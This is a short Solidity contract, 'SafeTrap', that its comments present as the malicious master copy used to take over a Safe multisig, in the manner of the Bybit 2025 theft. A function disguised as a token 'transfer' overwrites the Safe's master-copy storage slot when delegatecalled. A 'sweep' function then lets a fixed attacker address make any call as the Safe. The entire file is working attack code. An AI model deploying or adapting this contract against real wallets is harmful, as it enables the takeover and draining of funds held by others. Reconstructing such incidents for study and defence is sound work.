// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {LowLevelCall} from "@openzeppelin/contracts/utils/LowLevelCall.sol";

/// @title The master copy that a Safe is tricked into (Bybit, 2025)
/// @notice Called by a Safe's delegatecall, a function that looks like a token's transfer overwrites the Safe's first storage
/// word, which holds its master copy. With this contract as master copy, the attacker alone decides what the Safe does.
contract SafeTrap {
    /// @notice Who decides from then on
    address public immutable ATTACKER;

    address private _masterCopy;

    /// @notice Thrown when somebody else than the attacker calls
    /// @param caller The account that called
    error NotAttacker(address caller);

    /// @param attacker Who decides
    constructor(address attacker) {
        ATTACKER = attacker;
    }

    /// @notice Makes `to` the master copy of the Safe that delegates here
    /// @param to The new master copy
    /// @return True, as a token would
    function transfer(address to, uint256) external returns (bool) {
        _masterCopy = to;
        return true;
    }

    /// @notice As the Safe, makes any call
    /// @param target The contract to call
    /// @param data The call
    /// @return result What it returned
    function sweep(address target, bytes calldata data) external returns (bytes memory result) {
        require(msg.sender == ATTACKER, NotAttacker(msg.sender));
        bool success;
        (success, result) = target.call{value: 0}(data);
        if (!success) LowLevelCall.bubbleRevert(result);
    }
}
